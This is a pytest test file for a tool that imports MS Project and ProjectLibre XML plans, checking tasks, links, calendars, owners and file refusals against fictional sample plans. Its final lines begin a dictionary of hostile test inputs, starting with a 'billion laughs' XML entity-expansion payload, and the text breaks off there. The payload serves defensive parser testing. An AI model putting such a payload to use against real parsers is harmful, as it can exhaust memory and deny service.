"""Reading plans MS Project and ProjectLibre saved as XML (MSPDI): every element read, every refusal.

The three files in tests/importing/files are written the way Project 2003, Project 2016 and
ProjectLibre write them; the small plans below are built inline to pin one rule each."""

from __future__ import annotations

import os
from datetime import date
from pathlib import Path

import pytest

from migrator.domain.model import DependencyType
from migrator.importing.ms_project_xml import CHUNK_BYTES, read_ms_project_xml
from migrator.importing.readers import PlanFileError
from migrator.importing.source_plan import OUTLINE, ColumnUse, SourceFormat, SourceLink, SourcePerson

FILES = Path(__file__).parent / "files"
NS = "http://schemas.microsoft.com/project"
STANDARD_WEEK = "".join(
    f"<WeekDay><DayType>{day}</DayType><DayWorking>{int(day not in (1, 7))}</DayWorking></WeekDay>"
    for day in range(1, 8)
)


def mspdi(
    tmp_path: Path,
    tasks: str,
    *,
    header: str = "<MinutesPerDay>480</MinutesPerDay>",
    after: str = "",
    calendar: str = "",
    name: str = "plan.xml",
) -> Path:
    """A small MSPDI file: ``header`` elements, a Standard calendar with ``calendar`` inside it,
    the ``tasks`` and whatever comes ``after`` them (resources, assignments)."""
    path = tmp_path / name
    path.write_text(
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Project xmlns="{NS}">'
        f"<SaveVersion>14</SaveVersion><Name>{name}</Name>{header}<CalendarUID>1</CalendarUID>"
        f"<Calendars><Calendar><UID>1</UID><Name>Standard</Name><IsBaseCalendar>1</IsBaseCalendar>"
        f"<BaseCalendarUID>-1</BaseCalendarUID>{calendar or f'<WeekDays>{STANDARD_WEEK}</WeekDays>'}"
        f"</Calendar></Calendars><Tasks>{tasks}</Tasks>{after}</Project>",
        encoding="utf-8",
    )
    return path


def task(
    uid: int,
    name: str,
    *,
    level: int = 1,
    body: str = "",
    start: str = "2027-01-04",
    finish: str = "2027-01-08",
) -> str:
    return (
        f"<Task><UID>{uid}</UID><ID>{uid}</ID><Name>{name}</Name><OutlineLevel>{level}</OutlineLevel>"
        f"<Start>{start}T08:00:00</Start><Finish>{finish}T17:00:00</Finish>{body}</Task>"
    )


def link(predecessor: int, type_: int = 1, lag: int = 0, lag_format: int = 7) -> str:
    return (
        f"<PredecessorLink><PredecessorUID>{predecessor}</PredecessorUID><Type>{type_}</Type>"
        f"<CrossProject>0</CrossProject><LinkLag>{lag}</LinkLag><LagFormat>{lag_format}</LagFormat></PredecessorLink>"
    )


def notices(source_notices: list[object]) -> list[str]:
    return [str(n) for n in source_notices]


# ---------------------------------------------------------------- Project 2016


def test_a_project_2016_plan_reads_its_tasks_outline_and_dates() -> None:
    source = read_ms_project_xml(FILES / "project-2016.xml")

    assert source.format is SourceFormat.MS_PROJECT_XML
    assert source.label == "MS Project XML (saved by Project 2010 or later)"
    assert source.sheet == "project-2016.xml"
    assert source.name == "Core Banking Migration"  # the Title, not the file name in <Name>
    assert (source.start, source.finish) == (date(2027, 1, 4), date(2027, 3, 22))
    tasks = {t.source_id: t for t in source.tasks}
    assert [t.source_id for t in source.tasks] == [f"UID {n}" for n in range(1, 11)]  # UID 0 is not a task
    freeze = tasks["UID 2"]
    assert (freeze.position, freeze.name) == (2, "Freeze card schema")
    assert (freeze.level, freeze.parent_id, freeze.is_summary) == (2, "UID 1", False)
    assert (freeze.start, freeze.finish) == (date(2027, 1, 4), date(2027, 1, 15))
    assert (freeze.actual_start, freeze.actual_finish) == (date(2027, 1, 4), date(2027, 1, 15))
    # Baseline 0, not Baseline 1 (2026-12-07 … 2026-12-18)
    assert (freeze.baseline_start, freeze.baseline_finish) == (date(2027, 1, 4), date(2027, 1, 13))
    assert (freeze.progress, freeze.milestone, freeze.owner) == (100, False, "Ann Lee")
    assert freeze.notes == "Schema v3 signed off by the card scheme & the bank's architects."
    accounts = tasks["UID 3"]
    assert (accounts.actual_start, accounts.actual_finish, accounts.progress) == (date(2027, 1, 18), None, 40)
    assert (tasks["UID 1"].level, tasks["UID 1"].parent_id, tasks["UID 1"].is_summary) == (1, None, True)
    assert (tasks["UID 5"].is_summary, tasks["UID 6"].parent_id) == (True, "UID 5")
    assert (tasks["UID 4"].milestone, tasks["UID 4"].start, tasks["UID 4"].finish) == (
        True,
        date(2027, 2, 12),
        date(2027, 2, 12),
    )
    assert (tasks["UID 10"].name, tasks["UID 10"].level, tasks["UID 10"].parent_id) == ("Go-live", 1, None)
    assert tasks["UID 8"].notes == "Daily reconciliation\nuntil the old ledger is closed."
    assert all(t.key is None and t.status is None for t in source.tasks)
    assert source.problems == []


def test_project_2016_links_keep_their_type_and_lag_in_working_days() -> None:
    source = read_ms_project_xml(FILES / "project-2016.xml")

    assert source.links == [
        SourceLink("UID 2", "UID 3", DependencyType.FS, 0),
        SourceLink("UID 3", "UID 4", DependencyType.FS, 2),  # 9600 tenths of a minute = 2 days of 480 minutes
        SourceLink(
            "UID 4", "UID 6", DependencyType.SS, 1, "a lag of 4 hours (0.5 working days) rounded to 1 day"
        ),
        SourceLink("UID 6", "UID 8", DependencyType.FF, 2, "a lag of 3 elapsed days taken as 2 working days"),
        SourceLink("UID 3", "UID 8", DependencyType.SF, 0),
        SourceLink("UID 5", "UID 10", DependencyType.FS, 0),  # from a summary: import-core re-attaches it
        SourceLink("UID 8", "UID 10", DependencyType.FS, -1),  # a lead of one day
    ]
    assert notices(source.notices)[3:6] == [
        "project-2016.xml, row 7, column PredecessorLink: the link from UID 6 to UID 7 'Decommission legacy "
        "switch' is not imported: UID 7 is an inactive task",
        "project-2016.xml, row 8, column PredecessorLink: the link from UID 99 to UID 8 'Reconcile ledgers' "
        "names a task that is not in the file: it is not imported",
        "project-2016.xml, row 8, column PredecessorLink: the link from UID 12 to UID 8 'Reconcile ledgers' "
        "comes from \\\\fileserver\\plans\\Treasury.mpp\\12: it is not imported",
    ]


def test_project_2016_skipped_tasks_keep_their_reason_and_the_notices_name_all_else_left_out() -> None:
    source = read_ms_project_xml(FILES / "project-2016.xml")
    tasks = {t.source_id: t for t in source.tasks}

    assert tasks["UID 7"].skip_reason == "an inactive task"
    assert tasks["UID 9"].skip_reason == "a blank (null) task"
    assert (tasks["UID 9"].name, tasks["UID 9"].parent_id) == (None, None)
    assert [t.source_id for t in source.tasks if t.skip_reason] == ["UID 7", "UID 9"]
    # The import lists skipped tasks with their reason; notices cover what is not a task to skip.
    assert [n.message for n in source.notices] == [
        "UID 0 'Core Banking Migration' is the project summary task: it is not imported",
        "the calendar 'Standard' makes 2027-06-12 a working day, which Migrator's calendar cannot hold: "
        "its working week applies on those days",
        "UID 3 'Migrate card accounts' has 2 people assigned (Ann Lee 50%, Raj Patel 100%): "
        "Raj Patel is taken as its owner",
        "the link from UID 6 to UID 7 'Decommission legacy switch' is not imported: "
        "UID 7 is an inactive task",
        "the link from UID 99 to UID 8 'Reconcile ledgers' names a task that is not in the file: "
        "it is not imported",
        "the link from UID 12 to UID 8 'Reconcile ledgers' comes from "
        "\\\\fileserver\\plans\\Treasury.mpp\\12: it is not imported",
        "UID 6 'Switch payments gateway' is manually scheduled: its dates are taken as written",
    ]
    assert str(source.notices[-1]) == (
        "project-2016.xml, row 6, column Manual: UID 6 'Switch payments gateway' is manually scheduled: "
        "its dates are taken as written"
    )


def test_project_2016_owners_come_from_assignments_and_people_from_work_resources() -> None:
    source = read_ms_project_xml(FILES / "project-2016.xml")
    owners = {t.source_id: t.owner for t in source.tasks}

    # UID 3: Ann Lee at 50 %, Raj Patel at 100 %; UID 6: Chen Wei and the "Test servers" material
    # resource; UID 4 and 10: Project's unassigned resource (-65535).
    assert owners == {
        "UID 1": None, "UID 2": "Ann Lee", "UID 3": "Raj Patel", "UID 4": None, "UID 5": None,
        "UID 6": "Chen Wei", "UID 7": None, "UID 8": "Chen Wei", "UID 9": None, "UID 10": None,
    }  # fmt: skip
    assert source.people == [
        SourcePerson("Ann Lee", "ann.lee@bank.example", "Card Ops"),
        SourcePerson("Raj Patel", "raj.patel@bank.example", "Card Ops"),
        SourcePerson("Chen Wei", "chen.wei@bank.example", "Payments"),
    ]
    assert notices(source.notices)[2] == (
        "project-2016.xml, row 3, column Assignments: UID 3 'Migrate card accounts' has 2 people assigned "
        "(Ann Lee 50%, Raj Patel 100%): Raj Patel is taken as its owner"
    )


def test_project_2016_teams_can_come_from_summaries_resource_groups_or_text_fields() -> None:
    source = read_ms_project_xml(FILES / "project-2016.xml")
    tasks = {t.source_id: t for t in source.tasks}

    assert source.grouping_choices == [OUTLINE, "Resource Group", "Team", "Workstream code"]
    assert tasks["UID 3"].groupings == {
        "Team": "Cards",
        "Workstream code": "CRD-2",
        "Resource Group": "Card Ops",
    }
    assert tasks["UID 4"].groupings == {"Team": "Cards"}
    assert tasks["UID 6"].groupings == {
        "Team": "Payments",
        "Workstream code": "PAY-1",
        "Resource Group": "Payments",
    }
    # "Cost centre" (Text3) is defined but used by no task: no choice, but part of the file's shape
    assert source.shape == "mspdi|Cost centre|Team|Workstream code"
    assert source.columns[-3:] == [
        ColumnUse("Resource Group", None),
        ColumnUse("Team", None),
        ColumnUse("Workstream code", None),
    ]
    assert ColumnUse("Finish", "due") in source.columns and ColumnUse("Name", "title") in source.columns


def test_project_2016_calendar_has_its_working_week_and_named_holidays_in_the_plan_year() -> None:
    source = read_ms_project_xml(FILES / "project-2016.xml")

    assert source.calendar is not None
    assert source.calendar.working_weekdays == frozenset({0, 1, 2, 3, 4})
    # Christmas recurs 2026–2030 and the spring bank holiday 2027–2028: only 2027 is the plan's year
    assert source.calendar.non_working_days == {
        date(2027, 3, 29): "Easter Monday",
        date(2027, 5, 31): "Spring bank holiday",  # the last Monday of May
        date(2027, 12, 25): "Christmas Day",
        date(2027, 12, 27): "Year-end change freeze",
        date(2027, 12, 28): "Year-end change freeze",
        date(2027, 12, 29): "Year-end change freeze",
        date(2027, 12, 30): "Year-end change freeze",
        date(2027, 12, 31): "Year-end change freeze",
    }
    assert notices(source.notices)[1] == (
        "project-2016.xml, column Calendars: the calendar 'Standard' makes 2027-06-12 a working day, which "
        "Migrator's calendar cannot hold: its working week applies on those days"
    )


# ---------------------------------------------------------------- Project 2003


def test_a_project_2003_plan_with_seven_and_a_half_hour_days() -> None:
    source = read_ms_project_xml(FILES / "project-2003.xml")
    tasks = {t.source_id: t for t in source.tasks}

    assert source.label == "MS Project XML"  # Project 2003 writes no <SaveVersion>
    assert source.name == "Data Centre Exit"  # no <Title>: the project summary task's name
    assert (source.start, source.finish) == (date(2027, 4, 5), date(2027, 6, 30))
    assert [t.source_id for t in source.tasks] == [f"UID {n}" for n in range(1, 10)]
    assert (tasks["UID 2"].progress, tasks["UID 3"].progress) == (100, 25)
    # "Inventory signed off" has a zero duration but Milestone 0: a milestone all the same
    assert (tasks["UID 4"].milestone, tasks["UID 6"].milestone, tasks["UID 7"].milestone) == (
        True,
        True,
        False,
    )
    assert tasks["UID 6"].skip_reason == "an external task (it belongs to another project)"
    assert tasks["UID 7"].notes == "Two lorries; insurance certificate attached to the PO."
    # MinutesPerDay 450: 1200 tenths of a minute (2 hours) is 0.27 days; 13500 (estimated) is 3 days;
    # 90000 is one 20-day month; 50 % of the predecessor's 75 hours (10 days) is 5 days.
    assert source.links == [
        SourceLink(
            "UID 2", "UID 3", DependencyType.FS, 0, "a lag of 2 hours (0.27 working days) rounded to 0 days"
        ),
        SourceLink("UID 3", "UID 4", DependencyType.FS, 0),
        SourceLink("UID 4", "UID 7", DependencyType.FS, 5, "a lag of 1 elapsed week taken as 5 working days"),
        SourceLink(
            "UID 7",
            "UID 8",
            DependencyType.SS,
            5,
            "a lag of 50% of the predecessor's 10 days taken as 5 working days",
        ),
        SourceLink("UID 7", "UID 8", DependencyType.FS, 3),
        SourceLink("UID 8", "UID 9", DependencyType.FS, 20),
    ]
    assert (
        "project-2003.xml, row 7, column PredecessorLink: the link from UID 6 to UID 7 'Ship hardware' is "
        "not imported: UID 6 is an external task (it belongs to another project)" in notices(source.notices)
    )


def test_project_2003_owner_ties_go_to_the_first_assignment_and_undefined_text_fields_keep_their_name() -> (
    None
):
    source = read_ms_project_xml(FILES / "project-2003.xml")
    tasks = {t.source_id: t for t in source.tasks}

    assert tasks["UID 3"].owner == "Tom Becker"  # Tom Becker and Lina Haddad both at 50 %
    assert (tasks["UID 7"].owner, tasks["UID 8"].owner, tasks["UID 9"].owner) == (
        "Lina Haddad",
        "Grace Okafor",
        "Tom Becker",
    )
    assert source.people == [
        SourcePerson("Grace Okafor", "g.okafor@northwind.example", "Facilities"),
        SourcePerson("Tom Becker", "t.becker@northwind.example", "Architecture"),
        SourcePerson("Lina Haddad", None, "Facilities"),
    ]
    # Text1 has the alias "Site"; Text5 is used on tasks without a definition
    assert source.grouping_choices == [OUTLINE, "Resource Group", "Site", "Text5"]
    assert tasks["UID 2"].groupings == {
        "Site": "Slough",
        "Text5": "Facilities",
        "Resource Group": "Facilities",
    }
    assert source.shape == "mspdi|Site"


def test_project_2003_old_style_calendar_exceptions_are_date_ranges() -> None:
    source = read_ms_project_xml(FILES / "project-2003.xml")

    assert source.calendar is not None
    assert source.calendar.working_weekdays == frozenset({0, 1, 2, 3, 4})
    # 2026-12-25/26 lies outside the plan's year
    assert source.calendar.non_working_days == {
        date(2027, 4, 16): "",
        date(2027, 5, 3): "",
        date(2027, 5, 31): "",
        date(2027, 6, 1): "",
    }


# ---------------------------------------------------------------- ProjectLibre


def test_a_projectlibre_plan_without_the_namespace() -> None:
    source = read_ms_project_xml(FILES / "projectlibre.xml")
    tasks = {t.source_id: t for t in source.tasks}

    assert (source.label, source.name) == ("MS Project XML", "Website relaunch")
    assert (source.start, source.finish) == (date(2027, 9, 6), date(2027, 10, 29))
    # ProjectLibre ends a day at midnight: a finish of 2027-09-11T00:00 is Friday 10 September
    assert (tasks["UID 2"].start, tasks["UID 2"].finish) == (date(2027, 9, 6), date(2027, 9, 10))
    assert (tasks["UID 1"].finish, tasks["UID 3"].finish) == (date(2027, 9, 17), date(2027, 9, 17))
    assert (tasks["UID 7"].milestone, tasks["UID 7"].parent_id) == (True, "UID 4")
    assert (tasks["UID 2"].owner, tasks["UID 5"].owner) == ("Sofia Marques", "Jonas Berg")
    assert source.grouping_choices == [OUTLINE, "Resource Group"]
    assert source.links == [
        SourceLink("UID 2", "UID 3", DependencyType.FS, 0),
        SourceLink("UID 3", "UID 5", DependencyType.FS, 1),
        SourceLink("UID 5", "UID 6", DependencyType.SS, 1, "a lag of 2 elapsed days taken as 1 working day"),
        SourceLink("UID 6", "UID 7", DependencyType.FS, 0),
    ]
    assert source.calendar is not None
    assert source.calendar.non_working_days == {date(2027, 10, 11): "", date(2027, 10, 12): ""}
    assert source.shape == "mspdi"
    assert (source.problems, source.notices) == ([], [])


# ---------------------------------------------------------------- one rule each


def test_an_outline_level_jump_is_a_problem(tmp_path: Path) -> None:
    path = mspdi(tmp_path, task(1, "Phase 1") + task(2, "Deep task", level=3) + task(3, "Next", level=2))

    source = read_ms_project_xml(path)

    assert [str(p) for p in source.problems] == [
        "plan.xml, row 2, column OutlineLevel: UID 2 'Deep task' is at outline level 3 right under a level 1 "
        "task: the outline skips a level"
    ]
    assert [(t.source_id, t.parent_id) for t in source.tasks] == [
        ("UID 1", None),
        ("UID 2", "UID 1"),
        ("UID 3", "UID 1"),
    ]


def test_an_outline_starting_below_the_top_is_a_problem(tmp_path: Path) -> None:
    source = read_ms_project_xml(mspdi(tmp_path, task(1, "Orphan", level=2)))

    assert [p.message for p in source.problems] == [
        "UID 1 'Orphan' is at outline level 2 right under the top of the plan: the outline skips a level"
    ]


def test_the_outline_number_or_wbs_gives_the_level_when_the_outline_level_is_missing(tmp_path: Path) -> None:
    tasks = "".join(
        f"<Task><UID>{uid}</UID><ID>{uid}</ID><Name>{name}</Name><{element}>{number}</{element}></Task>"
        for uid, name, element, number in (
            (1, "Phase", "OutlineNumber", "1"),
            (2, "Step", "OutlineNumber", "1.1"),
            (3, "Detail", "WBS", "1.1.1"),
            (4, "Wrap", "OutlineNumber", "2"),
        )
    )

    source = read_ms_project_xml(mspdi(tmp_path, tasks))

    assert [(t.level, t.parent_id, t.is_summary) for t in source.tasks] == [
        (1, None, True),
        (2, "UID 1", True),
        (3, "UID 2", False),
        (1, None, False),
    ]


def test_tasks_under_an_inactive_summary_are_skipped_with_it(tmp_path: Path) -> None:
    tasks = task(1, "Old phase", body="<Active>0</Active>") + task(2, "Old step", level=2) + task(3, "Kept")

    source = read_ms_project_xml(mspdi(tmp_path, tasks))

    assert [(t.source_id, t.skip_reason) for t in source.tasks] == [
        ("UID 1", "an inactive task"),
        ("UID 2", "under UID 1 'Old phase', which is skipped"),
        ("UID 3", None),
    ]
    assert OUTLINE not in source.grouping_choices  # the only summary is skipped


def test_a_migrator_export_carries_its_keys_in_the_migrator_key_field(tmp_path: Path) -> None:
    definitions = (
        "<ExtendedAttributes><ExtendedAttribute><FieldID>188743731</FieldID><FieldName>Text1</FieldName>"
        "<Alias>Migrator key</Alias></ExtendedAttribute></ExtendedAttributes>"
    )
    key = "<ExtendedAttribute><FieldID>188743731</FieldID><Value>{}</Value></ExtendedAttribute>"
    tasks = task(1, "Banking", body="<Summary>1</Summary>" + key.format("BNK")) + task(
        2, "Freeze schema", level=2, body=key.format("BNK-3")
    )

    source = read_ms_project_xml(
        mspdi(tmp_path, tasks, header="<MinutesPerDay>480</MinutesPerDay>" + definitions)
    )

    assert [(t.source_id, t.key) for t in source.tasks] == [("UID 1", "BNK"), ("UID 2", "BNK-3")]
    assert [t.groupings for t in source.tasks] == [{}, {}]
    assert source.grouping_choices == [OUTLINE]
    assert source.shape == "mspdi|Migrator key"
    assert source.columns[-1] == ColumnUse("Migrator key", "key")


@pytest.mark.parametrize(
    ("lag", "lag_format", "expected", "approximated"),
    [
        (4800, 7, 1, None),  # 1 day
        (-9600, 7, -2, None),  # a lead of 2 days
        (14400, 39, 3, None),  # "3 days?": estimated, still exact
        (2400, 3, 1, "a lag of 240 minutes (0.5 working days) rounded to 1 day"),
        (7200, 5, 2, "a lag of 12 hours (1.5 working days) rounded to 2 days"),
        (-2400, 5, -1, "a lag of -4 hours (-0.5 working days) rounded to -1 day"),
        (24000, 9, 5, None),  # 1 week of 2400 minutes
        (36000, 9, 8, "a lag of 1.5 weeks (7.5 working days) rounded to 8 days"),
        (96000, 11, 20, None),  # 1 month of 20 days
        (14400, 4, 1, "a lag of 1440 elapsed minutes taken as 1 working day"),  # 1 × 5/7 = 0.71
        (43200, 6, 2, "a lag of 72 elapsed hours taken as 2 working days"),  # 3 × 5/7 = 2.14
        (28800, 8, 1, "a lag of 2 elapsed days taken as 1 working day"),
        (201600, 10, 10, "a lag of 2 elapsed weeks taken as 10 working days"),
        (432000, 12, 21, "a lag of 1 elapsed month taken as 21 working days"),
        (50, 19, 5, "a lag of 50% of the predecessor's 10 days taken as 5 working days"),
        (25, 20, 3, "a lag of 25% of the predecessor's elapsed duration taken as 3 working days"),
        (25, 51, 3, "a lag of 25% of the predecessor's 10 days taken as 3 working days"),  # estimated %
    ],
)
def test_link_lags_in_every_format_become_whole_working_days(
    tmp_path: Path, lag: int, lag_format: int, expected: int, approximated: str | None
) -> None:
    header = (
        "<MinutesPerDay>480</MinutesPerDay><MinutesPerWeek>2400</MinutesPerWeek>"
        "<DaysPerMonth>20</DaysPerMonth>"
    )
    tasks = task(1, "Before", body="<Duration>PT80H0M0S</Duration>") + task(
        2, "After", body=link(1, 1, lag, lag_format)
    )

    source = read_ms_project_xml(mspdi(tmp_path, tasks, header=header))

    assert source.links == [SourceLink("UID 1", "UID 2", DependencyType.FS, expected, approximated)]


def test_link_types_and_odd_links(tmp_path: Path) -> None:
    tasks = (
        task(1, "A")
        + task(2, "B", body=link(1, 0) + link(1, 2) + link(1, 3) + link(3, 1) + link(1, 7))
        + task(3, "C", body=link(2) + "<PredecessorLink><PredecessorUID>1</PredecessorUID></PredecessorLink>")
    )

    source = read_ms_project_xml(mspdi(tmp_path, tasks))

    # A loop (B → C → B) is kept for resolve_plan to report; a link without a type is finish-to-start.
    assert source.links == [
        SourceLink("UID 1", "UID 2", DependencyType.FF),
        SourceLink("UID 1", "UID 2", DependencyType.SF),
        SourceLink("UID 1", "UID 2", DependencyType.SS),
        SourceLink("UID 3", "UID 2", DependencyType.FS),
        SourceLink("UID 2", "UID 3", DependencyType.FS),
        SourceLink("UID 1", "UID 3", DependencyType.FS),
    ]
    assert notices(source.notices) == [
        "plan.xml, row 2, column PredecessorLink: the link from UID 1 to UID 2 'B' has type 7, which "
        "MS Project does not write: it is not imported"
    ]


def test_recurring_exceptions_are_expanded_within_the_plans_years(tmp_path: Path) -> None:
    def exception(name: str, first: str, last: str, kind: int, extra: str = "", occurrences: int = 99) -> str:
        return (
            f"<Exception><EnteredByOccurrences>1</EnteredByOccurrences><TimePeriod><FromDate>{first}T00:00:00"
            f"</FromDate><ToDate>{last}T23:59:00</ToDate></TimePeriod><Occurrences>{occurrences}</Occurrences>"
            f"<Name>{name}</Name><Type>{kind}</Type>{extra}<DayWorking>0</DayWorking></Exception>"
        )

    exceptions = "".join(
        (
            # every other Friday (DaysOfWeek 32), four times, from the week of Monday 4 January
            exception(
                "Fortnightly release freeze",
                "2027-01-04",
                "2027-02-19",
                6,
                "<Period>2</Period><DaysOfWeek>32</DaysOfWeek>",
                4,
            ),
            # the first Monday (MonthItem 4, MonthPosition 0) of every third month
            exception(
                "Quarterly planning",
                "2027-01-01",
                "2027-12-31",
                5,
                "<Period>3</Period><MonthItem>4</MonthItem><MonthPosition>0</MonthPosition>",
            ),
            # the 15th of every month, three times
            exception(
                "Payroll run", "2027-01-15", "2027-03-15", 4, "<Period>1</Period><MonthDay>15</MonthDay>", 3
            ),
            # every 10 days, three times
            exception("Patch day", "2027-02-02", "2027-02-22", 7, "<Period>10</Period>", 3),
            # Saturdays and Sundays (1 + 64) of every seventh week, counted from the Sunday that
            # starts the week of Monday 4 January (Sunday 3 January itself is before the first day)
            exception(
                "Seventh weekend",
                "2027-01-04",
                "2027-12-31",
                6,
                "<Period>7</Period><DaysOfWeek>65</DaysOfWeek>",
                4,
            ),
            # New Year's Day (Month 0 = January) every year 2020–2040: only the plan's year counts
            exception(
                "New Year's Day", "2020-01-01", "2040-01-01", 2, "<Month>0</Month><MonthDay>1</MonthDay>", 21
            ),
            # the last Friday (MonthItem 8, MonthPosition 4) of November, yearly
            exception(
                "Black Friday freeze",
                "2026-11-01",
                "2030-12-31",
                3,
                "<Month>10</Month><MonthItem>8</MonthItem><MonthPosition>4</MonthPosition>",
                5,
            ),
        )
    )
    calendar = f"<WeekDays>{STANDARD_WEEK}</WeekDays><Exceptions>{exceptions}</Exceptions>"
    path = mspdi(tmp_path, task(1, "Work", start="2027-01-04", finish="2027-12-17"), calendar=calendar)

    source = read_ms_project_xml(path)

    assert source.calendar is not None
    assert source.calendar.non_working_days == {
        date(2027, 1, 1): "New Year's Day",
        date(2027, 1, 4): "Quarterly planning",
        date(2027, 1, 8): "Fortnightly release freeze",
        date(2027, 1, 15): "Payroll run",
        date(2027, 1, 22): "Fortnightly release freeze",
        date(2027, 1, 9): "Seventh weekend",
        date(2027, 2, 2): "Patch day",
        date(2027, 2, 5): "Fortnightly release freeze",
        date(2027, 2, 12): "Patch day",
        date(2027, 2, 15): "Payroll run",
        date(2027, 2, 19): "Fortnightly release freeze",
        date(2027, 2, 21): "Seventh weekend",
        date(2027, 2, 22): "Patch day",
        date(2027, 2, 27): "Seventh weekend",
        date(2027, 3, 15): "Payroll run",
        date(2027, 4, 5): "Quarterly planning",
        date(2027, 4, 11): "Seventh weekend",
        date(2027, 7, 5): "Quarterly planning",
        date(2027, 10, 4): "Quarterly planning",
        date(2027, 11, 26): "Black Friday freeze",
    }


def test_a_derived_project_calendar_inherits_its_base_week(tmp_path: Path) -> None:
    path = tmp_path / "derived.xml"
    path.write_text(
        f'<Project xmlns="{NS}"><CalendarUID>3</CalendarUID><Calendars>'
        f"<Calendar><UID>1</UID><Name>Standard</Name><IsBaseCalendar>1</IsBaseCalendar><WeekDays>{STANDARD_WEEK}"
        "<WeekDay><DayType>0</DayType><DayWorking>0</DayWorking><TimePeriod><FromDate>2027-05-03T00:00:00"
        "</FromDate><ToDate>2027-05-03T23:59:00</ToDate></TimePeriod></WeekDay></WeekDays></Calendar>"
        "<Calendar><UID>3</UID><Name>Six-day week</Name><IsBaseCalendar>0</IsBaseCalendar>"
        "<BaseCalendarUID>1</BaseCalendarUID><WeekDays><WeekDay><DayType>7</DayType><DayWorking>1</DayWorking>"
        "</WeekDay></WeekDays></Calendar></Calendars>"
        "<Tasks><Task><UID>1</UID><ID>1</ID><Name>Work</Name><Start>2027-05-03T08:00:00</Start></Task></Tasks>"
        "</Project>",
        encoding="utf-8",
    )

    source = read_ms_project_xml(path)

    assert source.calendar is not None
    assert source.calendar.working_weekdays == frozenset({0, 1, 2, 3, 4, 5})
    assert source.calendar.non_working_days == {date(2027, 5, 3): ""}


def test_a_project_scheduled_from_its_finish_states_no_target_finish(tmp_path: Path) -> None:
    header = (
        "<ScheduleFromStart>0</ScheduleFromStart><StartDate>2027-01-04T08:00:00</StartDate>"
        "<FinishDate>2027-06-30T17:00:00</FinishDate><MinutesPerDay>480</MinutesPerDay>"
    )

    source = read_ms_project_xml(mspdi(tmp_path, task(1, "Work"), header=header))

    assert (source.start, source.finish) == (date(2027, 1, 4), None)
    assert source.name == "plan"  # neither a Title nor a project summary task: the file name without .xml


def test_duplicate_uids_and_unreadable_values_are_problems(tmp_path: Path) -> None:
    tasks = (
        task(1, "First")
        + task(1, "Second")
        + task(2, "Bad date", start="2027-13-01")
        + task(7, "Under bad date", level=2)
        + task(3, "Bad progress", body="<PercentComplete>most</PercentComplete>")
        + task(4, "Bad duration", body="<Duration>ten days</Duration>")
        + "<Task><ID>5</ID><Name>No UID</Name></Task>"
        + task(6, "Below nothing", level=-1)
    )

    source = read_ms_project_xml(mspdi(tmp_path, tasks))

    assert [str(p) for p in source.problems] == [
        "plan.xml, row 1, column UID: UID 1 is used by two tasks; each task needs its own UID",
        "plan.xml, row 2, column Start: UID 2 'Bad date': '2027-13-01T08:00:00' is not a date",
        "plan.xml, row 3, column PercentComplete: UID 3 'Bad progress': 'most' is not a number",
        "plan.xml, row 4, column Duration: UID 4 'Bad duration': 'ten days' is not a duration",
        "plan.xml, row 5, column UID: a task has no UID, so it cannot be matched",
        "plan.xml, row 6, column OutlineLevel: UID 6 'Below nothing' has outline level -1",
    ]
    # A task with an unreadable value keeps its place (and its other values); a second UID 1 does not.
    assert [(t.name, t.start, t.progress) for t in source.tasks] == [
        ("First", date(2027, 1, 4), None),
        ("Bad date", None, None),
        ("Under bad date", date(2027, 1, 4), None),
        ("Bad progress", date(2027, 1, 4), None),
        ("Bad duration", date(2027, 1, 4), None),
    ]
    assert (source.tasks[2].parent_id, source.tasks[1].is_summary) == ("UID 2", True)


def test_many_manually_scheduled_tasks_are_counted_in_one_notice(tmp_path: Path) -> None:
    tasks = "".join(task(uid, f"Task {uid}", body="<Manual>1</Manual>") for uid in range(1, 26))

    source = read_ms_project_xml(mspdi(tmp_path, tasks))

    assert notices(source.notices) == [
        "plan.xml, column Manual: 25 tasks are manually scheduled (UID 1, UID 2, UID 3, UID 4, UID 5, …): "
        "their dates are taken as written"
    ]


def test_a_zero_duration_summary_is_not_a_milestone_and_percent_complete_is_clamped(tmp_path: Path) -> None:
    tasks = (
        task(1, "Empty phase", body="<Duration>PT0H0M0S</Duration><Summary>1</Summary>")
        + task(2, "Overdone", body="<Duration>PT8H0M0S</Duration><PercentComplete>120</PercentComplete>")
        + task(3, "No duration stated")
    )

    source = read_ms_project_xml(mspdi(tmp_path, tasks))

    assert [(t.milestone, t.progress) for t in source.tasks] == [(False, None), (False, 100), (None, None)]


# ---------------------------------------------------------------- whole-file refusals


def refusal(path: Path) -> str:
    with pytest.raises(PlanFileError) as caught:
        read_ms_project_xml(path)
    return str(caught.value)


def test_a_file_that_is_not_xml_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "plan.xml"
    path.write_text("Task Name,Duration\nDesign,5 days\n", encoding="utf-8")

    assert refusal(path) == (
        "plan.xml is not a readable XML file (it is damaged, cut short, or not XML at all): "
        "syntax error: line 1, column 0."
    )


def test_an_empty_or_cut_short_file_is_refused(tmp_path: Path) -> None:
    empty = tmp_path / "empty.xml"
    empty.write_bytes(b"")
    cut = tmp_path / "cut.xml"
    cut.write_bytes((FILES / "projectlibre.xml").read_bytes()[:700])

    assert refusal(empty) == (
        "empty.xml is not a readable XML file (it is damaged, cut short, or not XML at all): "
        "no element found: line 1, column 0."
    )
    assert refusal(cut).startswith(
        "cut.xml is not a readable XML file (it is damaged, cut short, or not XML at all): no element found"
    )


def test_xml_of_another_kind_is_refused(tmp_path: Path) -> None:
    msbuild = tmp_path / "Build.xml"
    msbuild.write_text(
        '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><PropertyGroup/></Project>',
        encoding="utf-8",
    )
    gantt = tmp_path / "house.xml"
    gantt.write_text('<project name="House" version="3.2"><tasks/></project>', encoding="utf-8")
    bare = tmp_path / "other.xml"
    bare.write_text("<Project><Owner>Ann</Owner></Project>", encoding="utf-8")

    assert refusal(msbuild) == (
        "Build.xml is XML but not an MS Project XML plan: it starts with "
        "<{http://schemas.microsoft.com/developer/msbuild/2003}Project>, not <Project>."
    )
    assert refusal(gantt) == (
        "house.xml is XML but not an MS Project XML plan: it starts with <project>, not <Project> "
        "(it looks like a GanttProject file: import it as .gan)."
    )
    assert refusal(bare) == (
        "other.xml is XML but not a plan saved by MS Project or ProjectLibre: its <Project> has no tasks, "
        "calendars or scheduling settings."
    )


HOSTILE = {
    "billion laughs": (
        '<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY a "aaaaaaaaaa">'
